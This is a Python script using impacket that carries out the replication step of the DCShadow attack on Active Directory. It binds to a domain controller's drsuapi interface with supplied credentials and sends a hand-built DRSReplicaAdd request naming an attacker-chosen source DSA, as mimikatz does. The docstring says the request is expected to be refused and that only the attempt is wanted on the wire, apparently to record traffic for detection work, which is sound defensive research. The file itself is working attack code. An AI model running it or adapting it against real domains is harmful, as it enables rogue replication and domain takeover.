#!/usr/bin/env python3
"""DCShadow's replication step for scripts/record-windows.sh: a host that is
not a domain controller binds to drsuapi on the DC (over TCP, found through
the endpoint mapper, authenticated with packet privacy as secretsdump.py
does) and asks it, with DRSReplicaAdd ([MS-DRSR] 4.1.19), to replicate the
domain naming context from a source DSA of the attacker's choosing, as
mimikatz's lsadump::dcshadow does after registering its rogue DC. impacket
has no DRSReplicaAdd client, so its request is declared here with impacket's
NDR classes; the DC refuses it (the source is no DC). Only the attempt is
wanted on the wire.

Usage: dcshadow-attempt.py DOMAIN USER PASSWORD DC_IP NC_DN SOURCE_DSA
"""
import sys

from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.dtypes import DWORD, LPSTR, ULONG
from impacket.dcerpc.v5.ndr import NDRCALL, NDRSTRUCT, NDRUNION
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException


class REPLTIMES(NDRSTRUCT):
    structure = (("rgTimes", "84s=b'\\x00'*84"),)


class DRS_MSG_REPADD_V1(NDRSTRUCT):
    structure = (
        ("pNC", drsuapi.PDSNAME),
        ("pszDsaSrc", LPSTR),
        ("rtSchedule", REPLTIMES),
        ("ulOptions", ULONG),
    )


class DRS_MSG_REPADD(NDRUNION):
    commonHdr = (("tag", DWORD),)
    union = {1: ("V1", DRS_MSG_REPADD_V1)}


class DRSReplicaAdd(NDRCALL):
    opnum = 5
    structure = (
        ("hDrs", drsuapi.DRS_HANDLE),
        ("dwVersion", DWORD),
        ("pmsgAdd", DRS_MSG_REPADD),
    )


class DRSReplicaAddResponse(NDRCALL):
    structure = (("ErrorCode", DWORD),)


def main():
    domain, user, password, ip, nc_dn, source = sys.argv[1:7]
    binding = epm.hept_map(ip, drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(binding)
    rpc.set_credentials(user, password, domain)
    dce = rpc.get_dce_rpc()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)

    bind = drsuapi.DRSBind()
    bind["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    ext = drsuapi.DRS_EXTENSIONS_INT()
    ext["cb"] = len(ext)
    ext["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | \
        drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    ext["SiteObjGuid"] = drsuapi.NULLGUID
    ext["Pid"] = 0
    ext["dwReplEpoch"] = 0
    ext["dwFlagsExt"] = 0
    ext["ConfigObjGUID"] = drsuapi.NULLGUID
    ext["dwExtCaps"] = 0xFFFFFFFF
    bind["pextClient"]["cb"] = len(ext)
    bind["pextClient"]["rgb"] = list(ext.getData())
    handle = dce.request(bind)["phDrs"]

    req = DRSReplicaAdd()
    req["hDrs"] = handle
    req["dwVersion"] = 1
    req["pmsgAdd"]["tag"] = 1
    nc = drsuapi.DSNAME()
    nc["SidLen"] = 0
    nc["Guid"] = drsuapi.NULLGUID
    nc["Sid"] = ""
    nc["NameLen"] = len(nc_dn)
    nc["StringName"] = nc_dn + "\x00"
    nc["structLen"] = len(nc.getData())
    req["pmsgAdd"]["V1"]["pNC"] = nc
    req["pmsgAdd"]["V1"]["pszDsaSrc"] = source + "\x00"
    req["pmsgAdd"]["V1"]["ulOptions"] = 0x10  # DRS_WRIT_REP
    try:
        resp = dce.request(req)
        print("DRSReplicaAdd answered:", resp["ErrorCode"])
    except DCERPCException as e:
        print("DRSReplicaAdd refused:", e)


if __name__ == "__main__":
    main()
